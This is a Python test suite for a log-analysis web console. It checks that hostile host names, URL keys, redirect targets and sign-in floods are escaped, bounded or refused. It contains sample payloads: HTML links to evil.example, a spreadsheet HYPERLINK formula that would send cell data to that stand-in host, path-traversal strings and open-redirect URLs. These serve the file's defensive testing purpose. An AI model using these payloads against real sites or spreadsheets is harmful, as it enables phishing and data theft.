"""The console against what hosts may report and what users may send (QA session 10): names
with markup, keys with '/', '?', '..', a name two hosts share, wide SQL answers, a server outside
UTC, floods of sign-ins. One small hand-written store, one real server (TZ=Asia/Tokyo, a small
HINDSIGHT_MAX_RESPONSE_BYTES), httpx for pages and Debian's chromium for what a browser draws."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from html import unescape
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from playwright.sync_api import Page, expect
from starlette.requests import Request

import hindsight
from hindsight.console import data as console_data
from hindsight.console import render
from hindsight.console.app import _next_from
from hindsight.console.recognise import recognise
from hindsight.console.sqlpos import locate
from hindsight.errors import InputError
from tests.console.conftest import _hindsight
from tests.server.serverproc import ServerProcess

T0 = 1_718_265_600  # 2024-06-13T08:00:00Z
MAX_BYTES = 300_000
MAX_ROWS = 600
SPOOF = '<a href="https://evil.example/phish">db-0004</a>'
ROOT = '<a href="https://evil.example/">root</a>'
QUERY = "q<i>ital</i><a href=https://evil.example/>x</a>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
KEYS = ("Up/Per Case", "../admin?x=<b>1</b>#frag", "..")
NAME, PASSWORD = "vera", "viewer password 2"


def _line(name: str, ident: str, t: int, columns: dict[str, Any], uuid: str | None = None) -> bytes:
    doc: dict[str, Any] = {"name": name, "hostIdentifier": ident, "calendarTime": "x",
                           "unixTime": t, "epoch": 0, "counter": 0, "numerics": False,
                           "columns": {k: str(v) for k, v in columns.items()}, "action": "added"}
    if uuid:
        doc["decorations"] = {"host_uuid": uuid, "hostname": ident}
    return orjson.dumps(doc) + b"\n"


def _log() -> bytes:
    out: list[bytes] = []
    spoof = "bbbbbbbb-0000-0000-0000-000000000002"
    for n in range(3):
        t = T0 + 6000 + 60 * n
        out += [_line("interface_addresses", SPOOF, t, {"interface": "eth0", "address": "10.77.7.7"}, spoof),
                _line("users", SPOOF, t, {"uid": 0, "username": ROOT, "directory": "/root"}, spoof),
                _line("users", SPOOF, t, {"uid": 7, "username": FORMULA, "directory": "/x"}, spoof),
                _line(QUERY, SPOOF, t, {"a": n}, spoof),
                _line("process_events", SPOOF, t, {"pid": 100 + n, "path": "/bin/sh", "time": t - 5,
                                                   "cmdline": "sh -c x --5", "uid": 0}, spoof)]
        for key in KEYS:
            out.append(_line("users", key, t, {"uid": 1004, "username": "erin", "directory": "/"}))
    old, new = "aaaaaaaa-1111-0000-0000-000000000001", "bbbbbbbb-2222-0000-0000-000000000002"
    for n in range(6):  # db-0004 reimaged: the old machine had alice as 1001, the new one mallory
        out += [_line("pack_ir_users", "db-0004", T0 + 300 * n, {"uid": 1001, "username": "alice"}, old),
                _line("process_events", "db-0004", T0 + 300 * n,
                      {"pid": n, "path": "/bin/ls", "cmdline": "ls", "time": T0 + 300 * n, "uid": 1001}, old),
                _line("pack_ir_users", "db-0004", T0 + 3600 + 300 * n, {"uid": 1001, "username": "mallory"}, new)]
    many = "cccccccc-0000-0000-0000-000000000003"
    out += [_line("files", "many", T0, {"path": f"/tmp/f{n:04d}"}, many) for n in range(520)]
    return b"".join(out)


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    root = tmp_path_factory.mktemp("hostile")
    log, data = root / "hostile.log", root / "data"
    log.write_bytes(_log())
    with hindsight.open(data) as hs:
        assert hs.ingest([log]).rejected == 0
    made = _hindsight("user", "add", NAME, "--role", "viewer", "--password", PASSWORD, "--data", str(data))
    assert made.returncode == 0, made.stderr
    server = ServerProcess(data, env={"TZ": "Asia/Tokyo", "HINDSIGHT_MAX_RESPONSE_BYTES": str(MAX_BYTES),
                                         "HINDSIGHT_MAX_ROWS": str(MAX_ROWS)})
    server.start(timeout_s=60)
    try:
        yield server
    finally:
        server.kill()


def _client(server: ServerProcess) -> httpx.Client:
    c = httpx.Client(base_url=server.url, verify=server.verify, timeout=60)
    c.__enter__()
    token = re.search(r'name="login_token" value="([^"]+)"', c.get("/console/login").text)
    assert token
    r = c.post("/console/login", data={"name": NAME, "password": PASSWORD, "login_token": token[1],
                                       "next": "/console/"})
    assert r.status_code == 303, r.text
    csrf = re.search(r'"X-CSRF-Token": "([^"]+)"', c.get("/console/sql").text)
    assert csrf
    c.headers["X-CSRF-Token"] = csrf[1]
    return c


@pytest.fixture(scope="module")
def client(served: ServerProcess) -> Iterator[httpx.Client]:
    c = _client(served)
    try:
        yield c
    finally:
        c.close()


def _timeline(page_html: str, cls: str = "timeline-data") -> dict[str, Any]:
    found = re.search(rf'class="{cls}">(.*?)</script>', page_html, re.S)
    assert found
    data: dict[str, Any] = orjson.loads(found[1])
    return data


# -- finding 1: values from the logs are text, in the timelines too -------------------------------
def test_timeline_labels_are_text(served: ServerProcess, client: httpx.Client) -> None:
    at = "2024-06-13T09:41:00Z"
    answer = _timeline(client.get("/console/", params={"q": "10.77.7.7", "at": at}).text)
    assert [g["content"] for g in answer["groups"]] == [
        "&lt;a href=&quot;https://evil.example/phish&quot;&gt;db-0004&lt;/a&gt;"]
    for item in answer["items"]:
        assert "<" not in item["content"] + item["title"]
    host = client.get("/console/host/bbbbbbbb-0000-0000-0000-000000000002").text
    assert "<a href=https://evil.example/>" not in str(_timeline(host)["groups"])


def test_a_browser_draws_names_as_text(page: Page, served: ServerProcess) -> None:
    page.goto(served.url + "/console/login")
    page.fill("input[name=name]", NAME)
    page.fill("input[name=password]", PASSWORD)
    page.click("form.login button[type=submit]")
    page.wait_for_load_state()
    page.goto(served.url + "/console/?q=10.77.7.7&at=2024-06-13T09:41:00Z")
    expect(page.locator("[data-timeline][data-drawn='1']")).to_have_count(1)
    expect(page.locator(".vis-label .vis-inner").first).to_have_text(SPOOF)
    expect(page.locator(".vis-item.bar").first).to_contain_text(SPOOF)
    assert page.locator(".timeline a").count() == 0  # no live link from ingested data
    page.goto(served.url + "/console/host/bbbbbbbb-0000-0000-0000-000000000002")
    expect(page.locator("[data-strip][data-drawn='1']")).to_have_count(1)
    expect(page.locator(".vis-label .vis-inner", has_text=QUERY)).to_have_count(1)
    assert page.locator(".strip a, .strip i").count() == 0


# -- finding 4: host keys in URLs ----------------------------------------------------------------
@pytest.mark.parametrize("key", KEYS)
def test_any_host_key_opens_its_host_page(client: httpx.Client, key: str) -> None:
    ask = client.get("/console/", params={"q": key, "at": "2024-06-13T09:41:00Z"})
    assert ask.status_code == 303
    target = ask.headers["location"]
    resolved = httpx.URL("https://h/console/").join(target)  # as a browser resolves it
    assert resolved.path.startswith("/console/host/") and not resolved.fragment
    page = client.get(target)
    assert page.status_code == 200, page.text
    title = re.search(r'data-testid="host-title">([^<]*)<', page.text)
    assert title and unescape(title[1]) == key
    assert "erin" in page.text  # its users
    state = re.search(r'data-url="([^"]*/state[?][^"]*)"', page.text)
    assert state and client.get(unescape(state[1]) + f"&at={T0 + 6000}").status_code == 200
    fleet = client.get("/console/fleet").text  # the Fleet page links to the same page
    assert target.split("?at=")[0].split("&at=")[0] in {unescape(h) for h in re.findall(r'href="([^"]*)"', fleet)}


# -- finding 2a: sign-in costs bounded memory and CPU --------------------------------------------
def _peak_kib(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    found = re.search(r"VmHWM:\s+(\d+) kB", status)
    assert found
    return int(found[1])


def _try_sign_in(server: ServerProcess, name: str, password: str) -> httpx.Response:
    with httpx.Client(base_url=server.url, verify=server.verify, timeout=120) as c:
        token = re.search(r'name="login_token" value="([^"]+)"', c.get("/console/login").text)
        assert token
        return c.post("/console/login", data={"name": name, "password": password,
                                              "login_token": token[1], "next": "/console/"})


def test_a_flood_of_wrong_sign_ins_queues_for_the_hasher(served: ServerProcess) -> None:
    assert served.proc is not None
    before = _peak_kib(served.proc.pid)
    answers: list[int] = []
    threads = [threading.Thread(target=lambda n=n: answers.append(
        _try_sign_in(served, f"flood{n}", "wrong password").status_code)) for n in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert answers == [401] * 10
    # argon2id takes 64 MiB per check: 10 at once would be 640 MiB; two at a time, 128 MiB
    assert _peak_kib(served.proc.pid) - before < 300 * 1024


def test_names_no_account_can_have_are_refused_before_hashing(served: ServerProcess) -> None:
    start = time.perf_counter()
    for name in ["x" * 200_000] * 7 + ["a b", "name\n", "<b>x</b>"]:
        r = _try_sign_in(served, name, "whatever1")
        # never remembered (no pause after 5 failures: nothing kept of a name no account has)
        assert r.status_code == 401 and "wrong user name or password" in r.text
        assert "x" * 1000 not in r.text
    r = _try_sign_in(served, "someone", "p" * 500_000)  # a password no account can have
    assert r.status_code == 401
    assert time.perf_counter() - start < 10


def test_failed_sign_ins_are_remembered_for_a_bounded_number_of_names() -> None:
    from hindsight.console.auth import FailedSignIns

    failures = FailedSignIns(limit=3, window_s=60, tracked=100)
    for n in range(1000):
        failures.add(f"user{n}", now=float(n))
        assert len(failures) <= 100
    for _ in range(3):
        failures.add("Mallory", now=2000.0)
    assert failures.locked_out("mallory", now=2001.0)  # a name failing now is still paused
    assert not failures.locked_out("mallory", now=2100.0)


def test_a_session_that_cannot_last_is_refused_at_start(tmp_path: Path) -> None:
    for hours in ("0", "-1"):
        env = {**os.environ, "HINDSIGHT_CONSOLE_SESSION_HOURS": hours}
        run = subprocess.run([sys.executable, "-c", "from hindsight.cli import main; main()", "serve",
                              "--data", str(tmp_path / "d"), "--listen", "127.0.0.1", "--port", "1"],
                             env=env, capture_output=True, text=True, timeout=60, check=False)
        assert run.returncode != 0
        assert "HINDSIGHT_CONSOLE_SESSION_HOURS must be above 0" in run.stdout + run.stderr


def test_sign_in_keeps_the_page_asked_for(served: ServerProcess) -> None:
    asked = "/console/?q=1001%40db-0004&at=2024-06-13T09%3A30%3A00Z"
    with httpx.Client(base_url=served.url, verify=served.verify, timeout=60) as c:
        to_login = c.get(asked)
        assert to_login.status_code == 303
        form = c.get(to_login.headers["location"]).text
        next_ = re.search(r'name="next" value="([^"]+)"', form)
        token = re.search(r'name="login_token" value="([^"]+)"', form)
        assert next_ and token and unescape(next_[1]) == asked
        wrong = c.post("/console/login", data={"name": NAME, "password": "not it", "login_token": token[1],
                                               "next": unescape(next_[1])})
        assert wrong.status_code == 401  # a mistyped password keeps where it was going
        next_ = re.search(r'name="next" value="([^"]+)"', wrong.text)
        token = re.search(r'name="login_token" value="([^"]+)"', wrong.text)
        assert next_ and token and unescape(next_[1]) == asked
        r = c.post("/console/login", data={"name": NAME, "password": PASSWORD,
                                           "login_token": token[1], "next": unescape(next_[1])})
        assert r.status_code == 303 and r.headers["location"] == asked
    with httpx.Client(base_url=served.url, verify=served.verify, timeout=60) as c:  # htmx: its page
        r = c.get("/console/host/many/state?query=files", headers={
            "HX-Request": "true", "HX-Current-URL": served.url + "/console/host/many?query=files&at=5"})
        assert r.status_code == 401
        assert r.headers["hx-redirect"] == "/console/login?next=/console/host/many%3Fquery%3Dfiles%26at%3D5"
    for unsafe in ("//evil.example/", "https://evil.example/", "/console/../admin", "/console/%2e%2e/x",
                   "/console//evil.example", "/console/\\evil.example", "/elsewhere", "/console/\nx"):
        assert _next_from(unsafe) == "/console/", unsafe


# -- finding 2 and 8e: the SQL page and its downloads are bounded in bytes, and say so when cut --
WIDE = "SELECT i, repeat('x', 100000) AS big FROM range(5) t(i)"


def test_sql_page_is_bounded_in_bytes(client: httpx.Client) -> None:
    r = client.post("/console/sql", data={"sql": WIDE, "at": ""}, headers={"HX-Request": "true"})
    assert r.status_code == 200
    assert len(r.content) < MAX_BYTES
    assert r.text.count("<tr><td>") == 2
    assert "only the first 2 rows fit in HINDSIGHT_MAX_RESPONSE_BYTES (300000 bytes)" in r.text


def test_downloads_are_bounded_and_say_when_cut(client: httpx.Client) -> None:
    r = client.get("/console/sql/download", params={"format": "csv", "sql": WIDE})
    assert r.headers["x-hindsight-truncated"] == "max_bytes"
    assert 'filename="hindsight-truncated.csv"' in r.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(r.text)))
    assert [row[0] for row in rows] == ["i", "0", "1", "# truncated: only the first 2 rows fit in "
                                        "HINDSIGHT_MAX_RESPONSE_BYTES (300000 bytes)"]
    r = client.get("/console/sql/download", params={"format": "json", "sql": WIDE})
    assert r.headers["x-hindsight-truncated"] == "max_bytes" and len(r.json()) == 2
    r = client.get("/console/sql/download", params={"format": "csv", "sql": "SELECT * FROM range(1000)"})
    assert r.headers["x-hindsight-truncated"] == "max_rows"
    assert r.text.splitlines()[-1].startswith("# truncated at the row bound (HINDSIGHT_MAX_ROWS)")
    assert len(r.text.splitlines()) == MAX_ROWS + 2
    whole = client.get("/console/sql/download", params={"format": "csv", "sql": "SELECT 1 AS one"})
    assert "x-hindsight-truncated" not in whole.headers and whole.text == "one\r\n1\r\n"
    assert 'filename="hindsight.csv"' in whole.headers["content-disposition"]


def test_csv_cells_are_never_formulas(client: httpx.Client) -> None:
    sql = "SELECT username, -5 AS n, '+1' AS plus, '@x' AS at_ FROM users WHERE uid = 7"
    r = client.get("/console/sql/download", params={"format": "csv", "sql": sql, "at": "2024-06-13T09:41:00Z"})
    assert list(csv.reader(io.StringIO(r.text)))[1] == ["'" + FORMULA, "-5", "'+1", "'@x"]


# -- finding 3: times are UTC whatever the server's zone -----------------------------------------
TIMES = ("SELECT TIMESTAMP '2024-06-13 09:00:00' AS ts, make_timestamp(2024,6,13,9,0,0) AS made, "
         "to_timestamp(1718269200) AS tstz")


def test_times_are_utc_outside_utc(client: httpx.Client) -> None:
    page = client.post("/console/sql", data={"sql": TIMES, "at": ""}, headers={"HX-Request": "true"}).text
    assert re.findall(r"<td>([^<]*)</td>", page) == ["2024-06-13T09:00:00Z"] * 3
    r = client.get("/console/sql/download", params={"format": "csv", "sql": TIMES})
    assert r.text.splitlines()[1] == ",".join(["2024-06-13T09:00:00Z"] * 3)
    r = client.get("/console/sql/download", params={"format": "json", "sql": TIMES})
    assert r.json() == [{c: "2024-06-13T09:00:00Z" for c in ("ts", "made", "tstz")}]


def test_unix_takes_naive_times_as_utc() -> None:
    zone = os.environ.get("TZ")
    os.environ["TZ"] = "America/New_York"
    time.tzset()
    try:
        naive, tokyo = datetime(2024, 6, 13, 9), datetime(2024, 6, 13, 18, tzinfo=timezone(timedelta(hours=9)))
        for unix in (render.unix, console_data.unix):
            assert unix(naive) == unix(tokyo) == unix(naive.replace(tzinfo=UTC)) == 1_718_269_200
        assert render.cell(naive) == render.cell(tokyo) == "2024-06-13T09:00:00Z"
    finally:
        if zone is None:
            del os.environ["TZ"]
        else:
            os.environ["TZ"] = zone
        time.tzset()


# -- finding 1b: a name several hosts share ------------------------------------------------------
OLD, NEW = "aaaaaaaa-1111-0000-0000-000000000001", "bbbbbbbb-2222-0000-0000-000000000002"


def test_a_shared_host_name_shows_every_host_of_it(client: httpx.Client) -> None:
    at = "2024-06-13T09:30:00Z"
    for r in (client.get("/console/", params={"q": "db-0004", "at": at}), client.get("/console/host/db-0004")):
        assert r.status_code == 200, r.headers.get("location")
        choices = [unescape(h) for h in re.findall(r'href="([^"]+)" data-testid="host-choice"', r.text)]
        assert sorted(c.split("?")[0] for c in choices) == [f"/console/host/{OLD}", f"/console/host/{NEW}"]
        assert "2 hosts reported the name <b>db-0004</b>" in r.text
    new = client.get(f"/console/host/{NEW}", params={"query": "pack_ir_users", "at": at}).text
    assert "mallory" in new and "alice" not in new
    answer = client.get("/console/", params={"q": "1001@db-0004", "at": at}).text
    groups = [g["content"] for g in _timeline(answer)["groups"]]
    assert sorted(groups) == [f"alice on {OLD}", f"mallory on {NEW}"]
    refused = client.get("/console/host/db-0004/state", params={"query": "pack_ir_users"})
    assert "names 2 hosts" in refused.text


# -- findings 5, 6, 7, 8c and the smaller ones ---------------------------------------------------
def test_numbers_typed_in_any_script_are_read_or_refused(client: httpx.Client) -> None:
    for text in ("--5", "\u00b2", "-5"):
        r = client.get("/console/events", params={"query": "process_events", "text": text,
                                                  "since": str(T0), "until": str(T0 + 7200)})
        assert r.status_code == 200 and "ValueError" not in r.text
        assert ("sh -c x --5" in r.text) == (text != "\u00b2"), text
    r = client.get("/console/", params={"q": "\u00b2@db-0004"})
    assert "ValueError" not in r.text and 'data-testid="error"' in r.text
    assert recognise("\u0661\u0660\u0660\u0661@h").kind == "word"  # Arabic-Indic digits: no uid
    with pytest.raises(InputError, match="not a uid"):
        recognise("\u00b2@h", "uid")


def test_host_page_says_when_its_state_grid_is_cut(client: httpx.Client) -> None:
    page = client.get("/console/host/many", params={"query": "files"}).text
    assert "(520 rows, the first 500 shown" in page
    assert 'data-testid="cut">First 500 of 520 rows shown.' in page


def test_host_page_lists_event_queries(client: httpx.Client) -> None:
    page = client.get(f"/console/host/{OLD}").text
    link = f'/console/events?query=process_events&host={OLD}"'
    assert link in page and "<td>event</td><td>6</td>" in page


def test_events_of_a_host_default_to_its_own_last_hour(client: httpx.Client) -> None:
    page = client.get("/console/events", params={"query": "process_events", "host": OLD}).text
    assert 'data-testid="matched">6 events of process_events' in page
    assert page.count("/bin/ls") == 6


def test_cards_show_no_missing_value_as_none(client: httpx.Client) -> None:
    page = client.get("/console/", params={"q": "10.77.7.7", "at": "2024-06-13T09:41:00Z"}).text
    assert 'data-testid="card"' in page and "None" not in page


def test_an_instant_before_the_data_keeps_the_timeline_in_order(client: httpx.Client) -> None:
    page = client.get("/console/", params={"q": "10.77.7.7", "at": "2020-01-01T00:00:00Z"}).text
    line = _timeline(page)
    assert line["start"] <= line["at"] <= line["end"] and line["start"] < line["end"]



def test_sql_errors_point_at_code_not_at_literals_or_comments() -> None:
    column = locate("SELECT 'shel' AS label, -- shel\n  shel FROM t",
                    'Binder Error: Referenced column "shel" not found in FROM clause!\n\nLINE 1: ...')
    assert (column.line, column.column, column.text) == (2, 3, "  shel FROM t")
    function = locate("SELECT nosuchfunc(1)",
                      "Catalog Error: Scalar Function with name nosuchfunc does not exist!")
    assert (function.line, function.column) == (1, 8)
    value = locate("SELECT 1,\n 'abc'::INT", "Conversion Error: Could not convert string 'abc' to INT32")
    assert (value.line, value.column) == (2, 2)


def test_a_lake_server_shows_its_fleet(tmp_path: Path) -> None:
    data, lake = tmp_path / "data", tmp_path / "lake"
    lake.mkdir()
    made = _hindsight("user", "add", NAME, "--role", "viewer", "--password", PASSWORD, "--data", str(data))
    assert made.returncode == 0, made.stderr
    server = ServerProcess(data, args=("--lake", str(lake))).start(timeout_s=60)
    try:
        c = _client(server)
        fleet = c.get("/console/fleet")
        c.close()
        assert fleet.status_code == 200 and 'data-testid="lake"' in fleet.text
    finally:
        server.kill()


def test_one_user_runs_at_most_two_sql_statements_at_once(served: ServerProcess, client: httpx.Client) -> None:
    slow = {"sql": "SELECT sum(i * i % 7) AS s FROM range(100000000) t(i)", "at": ""}
    answers: list[int] = []
    refused: list[str] = []

    def run() -> None:
        r = client.post("/console/sql", data=slow, headers={"HX-Request": "true"})
        answers.append(r.status_code)
        refused.extend([r.text] if r.status_code == 429 else [])

    threads = [threading.Thread(target=run) for _ in range(3)]
    for t in threads:
        t.start()
        time.sleep(0.15)
    for t in threads:
        t.join(timeout=120)
    assert sorted(answers) == [200, 200, 429]
    assert 'data-testid="sql-error"' in refused[0] and "2 SQL statements running" in refused[0]
    other = _client(served)  # a new session of the same user: pages other than SQL are not refused
    assert other.get("/console/fleet").status_code == 200
    other.close()
    done = client.post("/console/sql", data={"sql": "SELECT 1", "at": ""}, headers={"HX-Request": "true"})
    assert done.status_code == 200  # the slots were given back


def test_sql_grid_reads_no_column_name_as_a_time(client: httpx.Client) -> None:
    sql = 'SELECT 443 AS "start", 0 AS "time", 1718269200000 AS "end", 3 AS latest'
    page = client.post("/console/sql", data={"sql": sql, "at": ""}, headers={"HX-Request": "true"}).text
    assert re.findall(r"<td>([^<]*)</td>", page) == ["443", "0", "1718269200000", "3"]


def test_downloads_of_long_statements_and_wide_numbers(client: httpx.Client) -> None:
    values = ", ".join(f"'{n:064x}'" for n in range(1200))  # 80 KB: past a URL's length
    sql = f"SELECT count(*) AS n FROM (SELECT unnest([{values}]) AS h) WHERE h IN ({values})"
    page = client.post("/console/sql", data={"sql": sql, "at": ""}, headers={"HX-Request": "true"}).text
    form = re.search(r'<form class="download" method="post" action="([^"]+)"', page)
    assert form and 'name="format" value="csv"' in page
    r = client.post(form[1], data={"sql": sql, "at": "", "format": "csv"})
    assert r.status_code == 200 and r.text == "n\r\n1200\r\n"
    huge = "SELECT 170141183460469231731687303715884105727::HUGEINT AS h, 1 AS one"
    r = client.post(form[1], data={"sql": huge, "at": "", "format": "json"})
    # (the number itself, as the query API and the CLI write it: hindsight.jsonout)
    assert r.status_code == 200 and r.json() == [{"h": 170141183460469231731687303715884105727, "one": 1}]
    page = client.post("/console/sql", data={"sql": huge, "at": ""}, headers={"HX-Request": "true"}).text
    assert "<td>170141183460469231731687303715884105727</td>" in page


@given(st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40),
       st.sampled_from(["", "state", "diff"]))
@example(".", "")
@example("..", "state")
@example("../admin?x=1#f", "diff")
@example("-", "")
@example("%2e%2e", "")
def test_any_host_key_goes_through_a_url_whole(key: str, part: str) -> None:
    from hindsight.console.app import _host_path

    url = render.host_url(key, part, at=5, query="q&x")
    resolved = httpx.URL("https://h/console/").join(url)  # as a browser resolves it
    assert resolved.path.startswith("/console/host/") and not resolved.fragment
    raw_path, _, query = resolved.raw_path.partition(b"?")
    request = Request({"type": "http", "method": "GET", "path": resolved.path, "raw_path": raw_path,
                       "query_string": query, "headers": [], "root_path": ""})
    assert _host_path(request) == (key, part)
    assert request.query_params["at"] == "5" and request.query_params["query"] == "q&x"


@given(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.none()), min_size=1, max_size=6))
def test_no_csv_cell_is_a_formula(values: list[Any]) -> None:
    from hindsight.api import Result
    from hindsight.console.download import FORMULA_STARTS, Bounded, as_csv

    text = as_csv(Bounded(Result([f"c{i}" for i in range(len(values))], [tuple(values)]), None, 1 << 20))
    for got, value in zip(next(csv.reader(io.StringIO(text.decode()[text.decode().index("\r\n") + 2:]))), values, strict=True):
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            assert got == "'" + value
        else:
            assert got == ("" if value is None else str(value))


def test_a_link_from_another_site_opens_its_answer(page: Page, served: ServerProcess) -> None:
    """The session cookie is SameSite=Strict: a link clicked on another site (a ticket, a chat)
    comes without it, so the page opens itself again from this site, signed in."""
    asked = served.url + "/console/?q=1001%40db-0004&at=2024-06-13T09%3A30%3A00Z"
    page.goto(served.url + "/console/login")
    page.fill("input[name=name]", NAME)
    page.fill("input[name=password]", PASSWORD)
    page.click("form.login button[type=submit]")
    page.wait_for_load_state()
    other_site = served.url.replace("127.0.0.1", "localhost")  # another site: its own cookies
    page.goto(other_site + "/console/login")
    page.evaluate("url => { const a = document.createElement('a'); a.href = url; a.id = 'ticket'; "
                  "a.textContent = 'ticket'; document.body.append(a); }", asked)
    page.click("#ticket")
    expect(page.get_by_test_id("answer")).to_be_visible()
    assert page.url == asked
    with httpx.Client(base_url=served.url, verify=served.verify, timeout=60) as c:  # signed out
        r = c.get("/console/fleet", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"})
        assert r.status_code == 200 and 'http-equiv="refresh" content="0; url=/console/fleet"' in r.text
        r = c.get("/console/fleet", headers={"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate"})
        assert r.status_code == 303 and r.headers["location"] == "/console/login?next=/console/fleet"
